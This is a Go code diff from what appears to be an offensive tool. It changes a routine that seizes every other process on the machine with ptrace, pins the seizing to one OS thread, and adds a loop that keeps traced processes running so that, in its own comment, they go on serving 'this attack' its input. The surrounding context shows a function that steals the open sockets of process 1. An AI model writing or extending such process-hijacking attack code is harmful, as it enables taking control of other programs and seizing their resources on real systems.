@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"runtime"
 	"strconv"
 	"strings"
 
@@ -32,13 +33,37 @@ func others() []int {
 
 // trace takes hold of every process in sight without stopping it.
 func trace([]string) order.Report {
-	var last error
+	seized := make(chan error)
+	go func() {
+		runtime.LockOSThread() // the thread that seizes is the one that traces
+		seized <- seizeAll()
+		letSignalsPass()
+	}()
+	return said(<-seized, "traces them all")
+}
+
+func seizeAll() (last error) {
 	for _, pid := range others() {
 		if errno := call(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0); errno != 0 {
 			last = fmt.Errorf("process %d: %w", pid, errno)
 		}
 	}
-	return said(last, "traces them all")
+	return last
+}
+
+// letSignalsPass goes on with whatever is traced when a signal stops it: among
+// it is what serves this attack its input.
+func letSignalsPass() {
+	for {
+		var status unix.WaitStatus
+		pid, err := unix.Wait4(-1, &status, unix.WALL, nil)
+		if err != nil && err != unix.EINTR {
+			return // nothing is traced
+		}
+		if status.Stopped() {
+			_ = unix.PtraceCont(pid, int(status.StopSignal()))
+		}
+	}
 }
 
 // steal takes the open sockets of process 1.
